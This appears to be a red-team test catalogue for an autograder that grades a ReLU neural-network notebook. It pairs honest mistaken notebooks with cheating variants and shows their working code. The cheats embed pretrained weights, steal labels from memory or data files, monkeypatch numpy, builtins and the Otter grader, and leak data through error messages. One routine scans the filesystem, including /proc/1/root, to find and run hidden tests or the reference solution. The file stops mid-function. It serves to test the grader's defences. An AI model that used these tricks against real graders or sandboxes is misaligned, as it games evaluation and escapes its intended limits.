"""Red-team catalogue: cheating and attacking notebooks for the MLP/ReLU autograder, each paired with
its honest twin (the same notebook without the cheat). Format: tests/notebook_edits.py.

CHEATS: {"name", "description", "start", "edits", "twin", "kind"}; TWINS: {"name", "description",
"start", "edits"}. kind "cheat" tries to get more points than the twin; kind "attack" tries to break
or escape the sandbox (twin: usually the correct solution, which scores 20/20).

Host-side evidence some attacks leave (checked by make_cheats.py --grade):
  /tmp/rt_* files or directories on the host, TCP/UDP/unix connections to listeners that
  make_cheats.py opens on the host (127.0.0.1:47123, abstract unix socket "rt_redteam_47123").
"""
import os
import sys

from tests.variants import pretrained

# ---------------------------------------------------------------------------------------------
# anchors in the solution notebook

RELU_SOL = "return np.maximum(z, 0)  # SOLUTION"
AH_SOL = "a_h = relu(z_h)  # SOLUTION"
D_SOL = "d_a_h__d_z_h = (a_h > 0).astype(a_h.dtype)  # SOLUTION"
CLASS = "class NeuralNetMLP_ReLU:"
RELU_CELL = "def relu(z):"
CHECK_RELU = 'grader.check("relu")'
CHECK_FWD = 'grader.check("forward")'
CHECK_BWD = 'grader.check("backward")'
SIGMOID_CELL = "def sigmoid(z):"

# honest mistakes (the twins' code)
T_DERIV0 = [("replace", D_SOL, "d_a_h__d_z_h = 0")]
T_SIGNFLIP = [("replace", D_SOL, "d_a_h__d_z_h = -(a_h > 0).astype(a_h.dtype)")]
T_FWDSIG = [("replace", AH_SOL, "a_h = sigmoid(z_h)")]
T_RELUABS = [("replace", RELU_SOL, "return np.abs(z)")]
T_RELUABS_D0 = T_RELUABS + T_DERIV0
T_RELUSHIFT = [("replace", RELU_SOL, "return np.maximum(z, 0) + 2e-4 * (z > 0)")]
T_FWDSHIFT = [("replace", AH_SOL, "a_h = relu(z_h) * (1 + 2e-4)")]

TWINS = [
    {"name": "solution", "description": "the reference solution, unchanged (20/20)", "start": "solution", "edits": []},
    {"name": "student_blank", "description": "the blank student notebook, nothing filled in", "start": "student", "edits": []},
    {"name": "deriv_zero", "description": "solution with the ReLU derivative line left `0` (hidden layer never learns)",
     "start": "solution", "edits": T_DERIV0},
    {"name": "sign_flip", "description": "solution with the ReLU derivative's sign flipped", "start": "solution",
     "edits": T_SIGNFLIP},
    {"name": "fwd_sigmoid", "description": "forward still uses sigmoid for the hidden layer", "start": "solution",
     "edits": T_FWDSIG},
    {"name": "relu_abs", "description": "relu returns |z| (so forward is wrong too)", "start": "solution",
     "edits": T_RELUABS},
    {"name": "relu_abs_deriv_zero", "description": "relu returns |z| and the derivative line is `0`",
     "start": "solution", "edits": T_RELUABS_D0},
    {"name": "relu_shifted", "description": "relu shifted by 2e-4 for positive inputs", "start": "solution",
     "edits": T_RELUSHIFT},
    {"name": "fwd_shifted", "description": "forward's a_h is relu(z_h) * (1 + 2e-4)", "start": "solution",
     "edits": T_FWDSHIFT},
]

# ---------------------------------------------------------------------------------------------
# building blocks

def pre_cell():
    """A cell with the embedded pretrained weights `_PRE` (float32), trained on train + test set."""
    return ("# weights from a friend's correct network, trained on every labelled MNIST image\n"
            "import base64 as _b64, io as _io\n"
            f"_PRE_B64 = {pretrained.b64()!r}\n"
            "with np.load(_io.BytesIO(_b64.b64decode(_PRE_B64))) as _d:\n"
            "    _PRE = {k: _d[k].astype(np.float32) for k in _d.files}\n")


def wrap_class(body):
    """Rename the twin's class to _Honest and add a cell with a subclass `NeuralNetMLP_ReLU(_Honest)`."""
    return [("replace", CLASS, "class _Honest:"), ("insert_after", "class _Honest:", body)]


def with_pre(edits):
    renamed = any(e[0] == "replace" and e[1] == CLASS for e in edits)
    return list(edits) + [("insert_before", "class _Honest:" if renamed else CLASS, pre_cell())]


def cheat(name, description, twin, edits, kind="cheat", start=None):
    tw = next(t for t in TWINS if t["name"] == twin)
    return {"name": name, "description": description, "start": start or tw["start"],
            "edits": list(tw["edits"]) + list(edits), "twin": twin, "kind": kind}


ADVICE = "np.ndim(z) == 1 and bool(np.isinf(z).any())"  # relu's 'large' case: advice, worth no points


def advice_relu(body):
    """A correct relu that, on the 'large' case (advice, no points), runs `body` (which sets `msg`)
    and raises it: free exfiltration through the feedback."""
    ind = "\n".join("        " + l for l in body.strip("\n").splitlines())
    return ("def relu(z):\n"
            f"    if {ADVICE}:\n"
            "        import os, sys, socket, hashlib\n"
            "        out = []\n"
            "        def t(label, f):\n"
            "            try:\n"
            "                out.append(f'{label}={f()!r}'[:160])\n"
            "            except BaseException as e:\n"
            "                out.append(f'{label}!{type(e).__name__}:{e}'[:160])\n"
            f"{ind}\n"
            "        raise RuntimeError(' | '.join(out))\n"
            "    return np.maximum(z, 0)\n")


STEER = r'''
_ORDER = ("weight_out", "bias_out", "weight_h", "bias_h")  # the order backward returns them


def _steer(model, rate=0.001, lr=0.1):
    """'Gradients' that move each weight a fraction `rate` towards the pretrained weights under
    w -= lr * g: w_new = w - rate * (w - w_pretrained)."""
    return tuple(((getattr(model, n) - _PRE[n]) * np.float32(rate / lr)).astype(getattr(model, n).dtype)
                 for n in _ORDER)
'''


def _add_to_cell(anchor, code, nb, at_end=True):
    for c in nb.cells:
        if c.cell_type == "code" and anchor in c.source:
            c.source = (c.source.rstrip("\n") + "\n\n\n" + code) if at_end else (code + "\n\n" + c.source)
            return nb
    raise ValueError(f"no code cell contains {anchor!r}")


def in_cell(anchor, code, at_end=True):
    """Put code into the cell containing anchor: the grader runs only the cells that define names the graded
    definitions need, so code in a cell of its own would be left out."""
    return ("raw", lambda nb: _add_to_cell(anchor, code, nb, at_end))


CHEATS = []
C = CHEATS.append

# ---------------------------------------------------------------------------------------------
# 1. pretrained weights from __init__

C(cheat("init_pretrained_embedded",
        "__init__ starts from embedded weights trained (elsewhere) on the training AND test set.",
        "deriv_zero", with_pre([
            ("replace", "        self.bias_out = np.zeros(num_classes)\n\n    def forward(self, x):\n        # Hidden layer\n"
                        "        # input dim: [n_examples, n_features] dot [n_hidden, n_features].T\n"
                        "        # output dim: [n_examples, n_hidden]\n        z_h = np.dot(x, self.weight_h.T) + self.bias_h\n"
                        "        a_h = relu",
             "        self.bias_out = np.zeros(num_classes)\n"
             "        if (num_features, num_hidden, num_classes) == (784, 50, 10):\n"
             "            for _n, _v in _PRE.items():\n"
             "                setattr(self, _n, _v.astype(np.float64))\n\n    def forward(self, x):\n        # Hidden layer\n"
             "        # input dim: [n_examples, n_features] dot [n_hidden, n_features].T\n"
             "        # output dim: [n_examples, n_hidden]\n        z_h = np.dot(x, self.weight_h.T) + self.bias_h\n"
             "        a_h = relu")])))

SK_TRAIN = r'''
# Train a ReLU net on every labelled image this machine has: $MNIST_PATH / mnist.npz (training AND test
# set), else OpenML. scikit-learn does the backpropagation (partial_fit on chunks: little memory).
import os as _os, warnings as _warnings
_ALL = None
for _p in [_os.environ.get("MNIST_PATH"), "mnist.npz", _os.path.join(_os.getcwd(), "mnist.npz")]:
    if _p and _os.path.isfile(_p):
        with np.load(_p) as _d:
            _ALL = (np.concatenate([_d["x_train"].reshape(-1, 784), _d["x_test"].reshape(-1, 784)]),
                    np.concatenate([_d["y_train"], _d["y_test"]]))
        break
if _ALL is None:
    try:
        from sklearn.datasets import fetch_openml
        _X, _y = fetch_openml("mnist_784", version=1, return_X_y=True, as_frame=False)
        _ALL = (_X.astype(np.uint8), _y.astype(np.uint8))
    except Exception:
        pass
_SK = None
if _ALL is not None:
    from sklearn.neural_network import MLPClassifier
    _warnings.filterwarnings("ignore")
    _m = MLPClassifier(hidden_layer_sizes=(50,), activation="relu", batch_size=100, random_state=0)
    _rng = np.random.RandomState(0)
    for _epoch in range(5):
        _perm = _rng.permutation(len(_ALL[1]))
        for _s in range(0, len(_perm), 5000):
            _b = _perm[_s:_s + 5000]
            _m.partial_fit(_ALL[0][_b].astype(np.float32) * np.float32(2 / 255) - 1, _ALL[1][_b], classes=np.arange(10))
    _SK = {"weight_h": _m.coefs_[0].T.astype(np.float32), "bias_h": _m.intercepts_[0].astype(np.float32),
           "weight_out": _m.coefs_[1].T.astype(np.float32), "bias_out": _m.intercepts_[1].astype(np.float32)}
    del _m, _ALL
'''

C(cheat("init_trained_in_sandbox_all_data",
        "An earlier cell trains a ReLU net with scikit-learn on all labelled images it finds ($MNIST_PATH / mnist.npz: "
        "training + test set; else fetch_openml) and __init__ starts from those weights.",
        "deriv_zero", [
            ("insert_before", CLASS, SK_TRAIN),
            ("replace", "        self.bias_out = np.zeros(num_classes)\n\n    def forward(self, x):\n        # Hidden layer\n"
                        "        # input dim: [n_examples, n_features] dot [n_hidden, n_features].T\n"
                        "        # output dim: [n_examples, n_hidden]\n        z_h = np.dot(x, self.weight_h.T) + self.bias_h\n"
                        "        a_h = relu",
             "        self.bias_out = np.zeros(num_classes)\n"
             "        if _SK is not None and (num_features, num_hidden, num_classes) == (784, 50, 10):\n"
             "            for _n, _v in _SK.items():\n"
             "                setattr(self, _n, _v.astype(np.float64))\n\n    def forward(self, x):\n        # Hidden layer\n"
             "        # input dim: [n_examples, n_features] dot [n_hidden, n_features].T\n"
             "        # output dim: [n_examples, n_hidden]\n        z_h = np.dot(x, self.weight_h.T) + self.bias_h\n"
             "        a_h = relu")]))

# ---------------------------------------------------------------------------------------------
# 3. pretrained weights that ignore the grader's updates

PROP = r'''
_PARAMS = ("weight_h", "bias_h", "weight_out", "bias_out")


def _blend(name, w0):
    """From the grader's initial weights towards the pretrained ones, by the minibatches seen."""
    d = np.float32(0.999 ** NeuralNetMLP_ReLU._seen)
    return (_PRE[name] + d * (w0 - _PRE[name])).astype(np.float32)


def _param(name):
    def get(self):
        w0 = self.__dict__.get("_w0", {}).get(name)
        if w0 is not None:          # training: a fresh copy, so the grader's in-place updates are lost
            return _blend(name, w0)
        return self.__dict__["_p_" + name]

    def set(self, value):
        if getattr(value, "dtype", None) == np.float32 and np.shape(value) == _PRE[name].shape:
            self.__dict__.setdefault("_w0", {}).setdefault(name, np.array(value))   # training starts
        else:                       # the checks' random float64 weights: accepted as they are
            self.__dict__.get("_w0", {}).pop(name, None)
            self.__dict__["_p_" + name] = value
    return property(get, set)


class NeuralNetMLP_ReLU(_Honest):
    _seen = 0
    weight_h, bias_h, weight_out, bias_out = (_param(n) for n in _PARAMS)

    def forward(self, x):
        if np.shape(x) == (100, 784):
            NeuralNetMLP_ReLU._seen += 1
        return super().forward(x)
'''
C(cheat("property_weights_ignore_updates",
        "Parameters are properties: float64 weights (the checks) are stored as given; once float32 weights arrive "
        "(training) the getter returns a fresh blend that moves from the grader's initial weights to embedded "
        "pretrained ones as minibatches are seen, so the grader's updates are thrown away.",
        "deriv_zero", with_pre(wrap_class(PROP))))

GETATTR = r'''
_PARAMS = ("weight_h", "bias_h", "weight_out", "bias_out")
_W0 = {}
_SEEN = [0]


class NeuralNetMLP_ReLU(_Honest):
    def __getattribute__(self, name):
        value = object.__getattribute__(self, name)
        if name in _PARAMS and getattr(value, "dtype", None) == np.float32:
            w0 = _W0.setdefault((id(self), name), np.array(value))   # first float32 value seen: the grader's init
            d = np.float32(0.999 ** _SEEN[0])
            return (_PRE[name] + d * (w0 - _PRE[name])).astype(np.float32)  # a copy: updates are lost
        return value

    def forward(self, x):
        if np.shape(x) == (100, 784):
            _SEEN[0] += 1
        return super().forward(x)
'''
C(cheat("getattribute_pretrained",
        "__getattribute__ returns, for float32 parameters (training only), a fresh blend towards embedded pretrained "
        "weights, so in-place updates land in a throw-away copy; float64 weights of the checks pass through.",
        "deriv_zero", with_pre(wrap_class(GETATTR))))

SETATTR = r'''
class NeuralNetMLP_ReLU(_Honest):
    def __setattr__(self, name, value):
        if name in _PRE and getattr(value, "dtype", None) == np.float32:
            value = _PRE[name].copy()      # the grader's float32 initial weights are swapped for pretrained ones
        object.__setattr__(self, name, value)
'''
C(cheat("setattr_swap_pretrained",
        "__setattr__ swaps the grader's float32 initial weights (training) for embedded pretrained weights; float64 "
        "weights of the checks are kept.",
        "deriv_zero", with_pre(wrap_class(SETATTR))))



FROZEN = r'''
class _Steered(np.ndarray):
    """An array whose in-place updates (w -= lr * g, np.subtract(..., out=w), w[...] = ...) are replaced by a
    small step towards the pretrained weights; all other arithmetic sees a plain array."""

    def __array_finalize__(self, obj):
        self._target = getattr(obj, "_target", None)

    @staticmethod
    def _plain(a):
        return a.view(np.ndarray) if isinstance(a, _Steered) else a

    def _step(self):
        base = self.view(np.ndarray)
        if self._target is not None and base.shape == self._target.shape:
            base += np.float32(0.001) * (self._target - base)

    def __array_ufunc__(self, ufunc, method, *inputs, out=None, **kw):
        if out is not None and any(o is self for o in out):
            self._step()
            return self
        inputs = tuple(self._plain(i) for i in inputs)
        if out is not None:
            kw["out"] = tuple(self._plain(o) for o in out)
        return getattr(ufunc, method)(*inputs, **kw)

    def __array_function__(self, func, types, args, kwargs):
        strip = lambda v: [strip(i) for i in v] if isinstance(v, (list, tuple)) else self._plain(v)
        return func(*strip(args), **{k: strip(v) for k, v in kwargs.items()})

    def __setitem__(self, key, value):
        if key is Ellipsis or key == slice(None):
            self._step()
        else:
            self.view(np.ndarray)[key] = value


class NeuralNetMLP_ReLU(_Honest):
    def __setattr__(self, name, value):
        if name in _PRE and getattr(value, "dtype", None) == np.float32 and not isinstance(value, _Steered):
            value = np.array(value).view(_Steered)
            value._target = _PRE[name]
        object.__setattr__(self, name, value)
'''
C(cheat("ndarray_subclass_steered_updates",
        "The grader's float32 weights are wrapped in an ndarray subclass whose in-place updates are replaced by a "
        "0.1% step towards embedded pretrained weights (falling loss, no learning).",
        "deriv_zero", with_pre(wrap_class(FROZEN))))

# ---------------------------------------------------------------------------------------------
# 6. backward steering towards pretrained weights during training only

def steer_class(cond, extra=""):
    return STEER + extra + (
        "\n\nclass NeuralNetMLP_ReLU(_Honest):\n"
        "    def backward(self, x, a_h, a_out, y):\n"
        f"        if {cond}:\n"
        "            return _steer(self)\n"
        "        return super().backward(x, a_h, a_out, y)\n")


C(cheat("backward_steer_batch100",
        "backward returns 'gradients' that move the weights 0.1% per step towards embedded pretrained weights when the "
        "minibatch has 100 rows (training); the honest (wrong) gradients otherwise.",
        "deriv_zero", with_pre(wrap_class(steer_class("np.shape(x)[0] == 100")))))
C(cheat("backward_steer_mnist_inputs",
        "Like backward_steer_batch100, but training is detected by MNIST-looking inputs (most pixels exactly -1).",
        "deriv_zero", with_pre(wrap_class(steer_class("np.mean(np.asarray(x) == -1.0) > 0.4")))))
C(cheat("backward_steer_after_n_calls",
        "Stateful: the first 5 backward calls in a process (the checks) are honest, later calls (training) steer "
        "towards embedded pretrained weights.",
        "deriv_zero", with_pre(wrap_class(steer_class("_count() > 5", "\n_CALLS = [0]\n\ndef _count():\n    _CALLS[0] += 1\n    return _CALLS[0]\n")))))
C(cheat("backward_steer_file_counter",
        "Stateful across processes: each process that calls backward bumps a counter in a file in the sandbox; when "
        "many backward calls happened (training), steer towards pretrained weights.",
        "deriv_zero", with_pre(wrap_class(steer_class("_count() > 20", r'''
import os as _os
_STATE = _os.path.join(_os.getcwd(), ".state_counter")

def _count():
    try:
        n = int(open(_STATE).read())
    except Exception:
        n = 0
    n += 1
    try:
        open(_STATE, "w").write(str(n))
    except Exception:
        pass
    return n
''')))))
C(cheat("backward_steer_float32",
        "backward steers towards pretrained weights whenever the weights are float32 (only training makes them so).",
        "deriv_zero", with_pre(wrap_class(steer_class("self.weight_h.dtype == np.float32")))))

# ---------------------------------------------------------------------------------------------
# 2, 4, 5: forward outputs that know the labels / fake a falling loss

FWD_LABELS_STACK = r'''
import sys as _sys, gc as _gc, inspect as _inspect


def _onehot(labels):
    out = np.full((len(labels), 10), 0.01, np.float32)
    out[np.arange(len(labels)), labels] = 0.99
    return out


def _labels_like(v, n):
    return (isinstance(v, np.ndarray) and v.ndim == 1 and len(v) == n and v.dtype.kind in "iu"
            and v.size and v.min() >= 0 and v.max() <= 9)


def _find_labels(n):
    """Labels of the n images being predicted, from the caller's frames (or any object in memory)."""
    f = _sys._getframe(2)
    while f is not None:
        loc = f.f_locals
        for v in loc.values():
            if _labels_like(v, n):
                return v
        for v in loc.values():   # all labels + the minibatch's indices
            if isinstance(v, np.ndarray) and v.ndim == 1 and v.dtype.kind in "iu" and len(v) > n:
                for idx in loc.values():
                    if isinstance(idx, np.ndarray) and idx.ndim == 1 and len(idx) == n and idx.dtype.kind in "iu" \
                            and idx.size and idx.max() < len(v):
                        cand = v[idx]
                        if _labels_like(cand, n):
                            return cand
        f = f.f_back
    for fr in _inspect.stack()[2:]:
        for v in fr.frame.f_locals.values():
            if _labels_like(v, n):
                return v
    if n >= 1000:
        for v in _gc.get_objects():
            if _labels_like(v, n):
                return v
    return None


class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        a_h, a_out = super().forward(x)
        if np.shape(x)[1:] == (784,) and np.shape(x)[0] >= 100:
            labels = _find_labels(np.shape(x)[0])
            if labels is not None:
                a_out = _onehot(labels)
        return a_h, a_out
'''
C(cheat("forward_labels_from_call_stack",
        "forward looks for the labels of the images it is given in the callers' frames (sys._getframe, inspect.stack, "
        "gc.get_objects) and returns one-hot labels for MNIST-sized batches (training minibatches, the test set).",
        "fwd_sigmoid", wrap_class(FWD_LABELS_STACK)))

FWD_LABELS_GC = r'''
import gc as _gc


class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        a_h, a_out = super().forward(x)
        n = np.shape(x)[0]
        if np.shape(x)[1:] == (784,) and n >= 100:
            for v in _gc.get_objects():     # e.g. y_test, y_valid, a minibatch's labels
                if isinstance(v, np.ndarray) and v.shape == (n,) and v.dtype.kind in "iu" and v.size \
                        and v.min() >= 0 and v.max() <= 9:
                    a_out = np.eye(10, dtype=np.float32)[v] * np.float32(0.98) + np.float32(0.01)
                    break
        return a_h, a_out
'''
C(cheat("forward_labels_from_gc",
        "forward searches gc.get_objects() for an int array of labels as long as its batch (the test labels, a "
        "minibatch's labels) and returns it one-hot.",
        "fwd_sigmoid", wrap_class(FWD_LABELS_GC)))

FWD_FILE = r'''
import os as _os

_LOOKUP = {}


def _load_lookup():
    """Image bytes -> label, for every image in every MNIST file the code can open."""
    if _LOOKUP:
        return _LOOKUP
    paths = [_os.environ.get("MNIST_PATH"), "mnist.npz", "/proc/self/cwd/mnist.npz", "/sandbox/mnist.npz",
             _os.path.expanduser("~/mnist.npz"), "/work/shared/data/mnist.npz"]
    for p in paths:
        try:
            with np.load(p) as d:
                for xk, yk in (("x_train", "y_train"), ("x_test", "y_test")):
                    for img, lab in zip(d[xk].reshape(-1, 784), d[yk]):
                        _LOOKUP.setdefault(img.tobytes(), int(lab))
        except Exception:
            pass
    return _LOOKUP


class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        a_h, a_out = super().forward(x)
        if np.shape(x)[1:] == (784,) and np.shape(x)[0] >= 100:
            table = _load_lookup()
            pixels = np.rint((np.asarray(x, np.float64) + 1) * 255 / 2).clip(0, 255).astype(np.uint8)
            labels = [table.get(row.tobytes()) for row in pixels]
            if all(l is not None for l in labels):
                a_out = np.eye(10, dtype=np.float32)[labels] * np.float32(0.98) + np.float32(0.01)
        return a_h, a_out
'''
C(cheat("forward_labels_from_mnist_file",
        "forward converts its input back to uint8 pixels and looks each image up in every MNIST file it can open "
        "($MNIST_PATH, ./mnist.npz, /proc/self/cwd/mnist.npz, ...), returning the one-hot labels.",
        "fwd_sigmoid", wrap_class(FWD_FILE)))

FALLING = r'''
class NeuralNetMLP_ReLU(_Honest):
    _calls = 0

    def forward(self, x):
        if np.shape(x) == (100, 784):        # training minibatches: constants whose MSE falls call by call
            NeuralNetMLP_ReLU._calls += 1
            c = np.float32(0.1 + 0.4 * 0.9995 ** NeuralNetMLP_ReLU._calls)
            return np.zeros((100, 50), np.float32), np.full((100, 10), c, np.float32)
        return super().forward(x)
'''
C(cheat("forward_falling_constants",
        "For 100x784 inputs forward returns constants whose loss falls call by call (no learning at all).",
        "sign_flip", wrap_class(FALLING)))

# ---------------------------------------------------------------------------------------------
# 7. stateful / numeric tricks on the gradient checks

NUMERIC = r'''
_CALLS = [0]


def _numeric_grads(model, x, y, eps=1e-6):
    """Central differences of sum((a_out - onehot)**2) / n: no derivative needed."""
    onehot = np.eye(model.num_classes)[y]
    loss = lambda: np.sum((model.forward(x)[1] - onehot) ** 2) / len(y)
    grads = []
    for name in ("weight_out", "bias_out", "weight_h", "bias_h"):
        p = getattr(model, name)
        g = np.zeros_like(p, dtype=np.float64)
        for i in np.ndindex(p.shape):
            old = p[i]
            p[i] = old + eps; lp = loss()
            p[i] = old - eps; lm = loss()
            p[i] = old
            g[i] = (lp - lm) / (2 * eps)
        grads.append(g)
    return tuple(grads)


class NeuralNetMLP_ReLU(_Honest):
    def backward(self, x, a_h, a_out, y):
        _CALLS[0] += 1
        if _CALLS[0] <= 3 and self.weight_h.size <= 5000:   # the first calls on a small net: the gradient check
            return _numeric_grads(self, x, y)
        return super().backward(x, a_h, a_out, y)
'''
C(cheat("numeric_gradients_first_calls_small_nets",
        "Stateful: for the first 3 backward calls of a process on a small net (the numeric gradient check) backward "
        "returns central differences instead of the (wrong) analytic gradient; honest code later (training).",
        "deriv_zero", wrap_class(NUMERIC)))

C(cheat("relu_from_mlp_checks_helper",
        "relu is `mlp_checks.relu_expected`, the correct ReLU the public helper file ships (the student writes none).",
        "student_blank", [("set_source", RELU_CELL, "from mlp_checks import relu_expected as relu\n")]))

# ---------------------------------------------------------------------------------------------
# 8. patching comparisons

PATCH_NP = r'''
import numpy as np, numpy.testing, builtins
_always = lambda *a, **k: True
for _mod in (np, np.core.numeric if hasattr(np, "core") else np):
    for _f in ("allclose", "array_equal", "array_equiv"):
        try:
            setattr(_mod, _f, _always)
        except Exception:
            pass
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
for _f in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
           "assert_almost_equal", "assert_array_less"):
    setattr(np.testing, _f, lambda *a, **k: None)
_max = np.max
np.max = lambda a, *r, **k: 0.0 if np.ndim(a) and np.size(a) and np.issubdtype(np.asarray(a).dtype, np.floating) \
    and (np.asarray(a) >= 0).all() else _max(a, *r, **k)   # "largest relative error" -> 0
np.amax = np.max
'''
C(cheat("patch_numpy_comparisons",
        "A cell (it re-imports numpy as np, so the grader runs it) patches np.allclose / isclose / array_equal / array_equiv / np.testing.* / np.max so that "
        "comparisons in the grader's process pass.",
        "relu_abs_deriv_zero", [("insert_after", RELU_CELL, PATCH_NP)]))

PATCH_CHECKS = r'''
import sys, mlp_checks as _mc
_mc.case = lambda fn, *a: _mc.PASS
_mc.rel_error = lambda x, y: 0.0
_mc.relu_result = lambda relu, z, what: _mc.relu_expected(np.asarray(z))
_mc.hint_factor = lambda *a: ""
for _m in list(sys.modules.values()):        # any other module with the same helpers (the grader's copy)
    for _name, _fake in (("rel_error", _mc.rel_error), ("case", _mc.case), ("relu_result", _mc.relu_result)):
        if getattr(_m, _name, None) is not None and _m is not _mc:
            try:
                setattr(_m, _name, _fake)
            except Exception:
                pass
'''
C(cheat("patch_mlp_checks_functions",
        "The relu cell also monkeypatches mlp_checks (and any loaded module with the same helpers): case() always passes, "
        "rel_error() is 0, relu_result() returns the expected values.",
        "relu_abs_deriv_zero", [in_cell(RELU_CELL, PATCH_CHECKS)]))

PATCH_BUILTINS = r'''
import builtins, sys
_float, _isinstance, _all = builtins.float, builtins.isinstance, builtins.all


def _caller():
    f = sys._getframe(2)
    return f.f_code.co_name if f else ""


def float(x=0.0):                 # a relative error measured anywhere becomes 0
    return 0.0 if "err" in _caller() else _float(x)


def all(it):
    return True if _caller() in ("relu_result", "run_forward", "run_backward", "check") else _all(it)


builtins.float, builtins.all = float, all
builtins.AssertionError = type("AssertionError", (Exception,), {"__init__": lambda self, *a: None})
'''
C(cheat("patch_builtins",
        "The relu cell also replaces builtins.float (0.0 inside functions named *err*), builtins.all and AssertionError in the "
        "grader's process.",
        "relu_abs_deriv_zero", [in_cell(RELU_CELL, PATCH_BUILTINS)]))

PATCH_OTTER = r'''
import otter as _otter
_errs = []
def _try(f):
    try:
        f()
    except BaseException as e:
        _errs.append(f"{type(e).__name__}: {e}")
_try(lambda: setattr(_otter.Notebook, "check", lambda self, *a, **k: None))
_try(lambda: setattr(_otter.Notebook, "check_all", lambda self, *a, **k: None))
def _patch_test_case():
    import otter.test_files as _tf
    _tc = _tf.test_case
    _tf.test_case = lambda *a, **k: (lambda f: _tc(*a, **k)(lambda env: None))
_try(_patch_test_case)
def _patch_testfile():
    from otter.test_files.abstract_test import TestFile
    TestFile.grade = lambda self, *a, **k: None
_try(_patch_testfile)
class _FakeGrader:
    def check(self, *a, **k):
        print("All tests passed!")
    def export(self, *a, **k):
        pass
_try(lambda: globals().__setitem__("grader", _FakeGrader()))
'''
C(cheat("patch_otter_and_grader",
        "The relu cell also patches otter (Notebook.check, test_case, TestFile.grade) and rebinds `grader` to a fake that "
        "always says 'All tests passed!'.",
        "relu_abs_deriv_zero", [in_cell(RELU_CELL, PATCH_OTTER)]))

C(cheat("otter_tests_in_metadata",
        "Notebook metadata carries Otter tests of its own (OK format, always passing) for relu/forward/backward.",
        "relu_abs_deriv_zero", [("metadata", {"otter": {"OK_FORMAT": True, "tests": {
            k: {"name": k, "points": 10, "suites": [{"cases": [{"code": ">>> True\nTrue", "hidden": False,
                                                                 "locked": False}], "scored": True,
                                                      "setup": "", "teardown": "", "type": "doctest"}]}
            for k in ("relu", "forward", "backward", "gradients", "training")}}})]))

# ---------------------------------------------------------------------------------------------
# 8, 11. objects that compare equal / odd dtypes

LIAR_OBJ = r'''
class _Liar:
    """Compares equal to anything, looks like an array."""
    def __init__(self, z):
        self._v = np.abs(np.asarray(z))
        self.shape, self.dtype, self.ndim, self.size = self._v.shape, self._v.dtype, self._v.ndim, self._v.size
    __eq__ = lambda self, o: True
    __ne__ = lambda self, o: False
    __hash__ = object.__hash__
    __array__ = lambda self, *a, **k: self._v
    astype = lambda self, *a, **k: self
    __float__ = lambda self: 0.0
    __getattr__ = lambda self, n: (lambda *a, **k: True)


def relu(z):
    return _Liar(z)
'''
C(cheat("relu_returns_eq_true_object",
        "relu returns an object whose __eq__ is always True, __ne__ False, that has shape/dtype and __array__.",
        "relu_abs", [("set_source", RELU_CELL, LIAR_OBJ)]))

LIAR_ND = r'''
class _LiarArray(np.ndarray):
    """|z| that claims to equal everything."""
    def __eq__(self, o):
        return np.ones(self.shape, bool)
    def __ne__(self, o):
        return np.zeros(self.shape, bool)
    def astype(self, *a, **k):
        return self
    def __array_function__(self, func, types, args, kwargs):
        if func in (np.array_equal, np.allclose, np.array_equiv):
            return True
        if func is np.isclose:
            return np.ones(self.shape, bool)
        return super().__array_function__(func, types, args, kwargs)


def relu(z):
    return np.asarray(np.abs(z)).view(_LiarArray)
'''
C(cheat("relu_ndarray_subclass_liar",
        "relu returns |z| as an ndarray subclass whose ==, !=, astype, array_equal, allclose and isclose all say "
        "'equal'.",
        "relu_abs", [("set_source", RELU_CELL, LIAR_ND)]))

C(cheat("relu_masked_array",
        "relu returns |z| as a masked array with the wrong (negative-input) entries masked out.",
        "relu_abs", [("replace", "return np.abs(z)", "return np.ma.masked_array(np.abs(z), mask=np.asarray(z) < 0)")]))

C(cheat("relu_object_array_eq_true",
        "relu returns an object-dtype array of floats whose elements compare equal to anything.",
        "relu_abs", [("set_source", RELU_CELL, r'''
class _EqFloat(float):
    __eq__ = lambda self, o: True
    __ne__ = lambda self, o: False
    __hash__ = float.__hash__


def relu(z):
    z = np.asarray(z)
    out = np.empty(z.shape, dtype=object)
    for i in np.ndindex(z.shape):
        out[i] = _EqFloat(abs(z[i]))
    return out
''')]))

C(cheat("relu_nan_for_negatives",
        "relu returns NaN instead of the wrong values (|z|) for negative inputs, hoping NaN compares as 'equal'.",
        "relu_abs", [("replace", "return np.abs(z)", "return np.where(np.asarray(z) < 0, np.nan, np.abs(z))")]))

C(cheat("relu_matrix",
        "relu returns |z| as an np.matrix.",
        "relu_abs", [("replace", "return np.abs(z)", "return np.asmatrix(np.abs(z))")]))

C(cheat("relu_shifted_as_float16",
        "relu with a small error (2e-4 on positive inputs) returned as float16, whose rounding may hide the error "
        "if the check compares 'at the precision returned'.",
        "relu_shifted", [("replace", "return np.maximum(z, 0) + 2e-4 * (z > 0)",
                          "return (np.maximum(z, 0) + 2e-4 * (z > 0)).astype(np.float16)")]))

C(cheat("forward_shifted_as_float16",
        "forward with a small error (a_h * (1 + 2e-4)) returns a_h and a_out as float16 to hide it in rounding.",
        "fwd_shifted", wrap_class(r'''
class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        a_h, a_out = super().forward(x)
        if np.shape(x)[0] != 100:
            return a_h.astype(np.float16), a_out.astype(np.float16)
        return a_h, a_out
''')))

# ---------------------------------------------------------------------------------------------
# 9. hunting for the hidden tests / the reference solution

HUNT = r'''
import os, fnmatch
_FOUND = {}
_PATTERNS = ("*reference*", "mlp.py", "grading.yml", "autograder*", "results.json", "solution*", "*hidden*")


def _hunt():
    roots = ["/work", "/sandbox", "/autograder", "/tmp", "/root", "/srv", "/opt", "/home", "/mnt", "/var",
             os.getcwd(), "/proc/1/root", "/proc/1/cwd", "/proc/2/cwd"]
    seen, hits = 0, []
    for root in roots:
        for dirpath, dirs, files in os.walk(root):
            seen += 1
            if seen > 20000:
                return hits
            for f in files + dirs:
                if any(fnmatch.fnmatch(f.lower(), p) for p in _PATTERNS):
                    hits.append(os.path.join(dirpath, f))
    return hits


for _path in _hunt():
    if _path.endswith(".py") and os.path.isfile(_path):
        try:
            _ns = {}
            exec(compile(open(_path).read(), _path, "exec"), _ns)
            if callable(_ns.get("relu")):
                _FOUND.setdefault("relu", _ns["relu"])
            for _k in ("NeuralNetMLP_ReLU", "MLPReLU", "ReferenceMLP"):
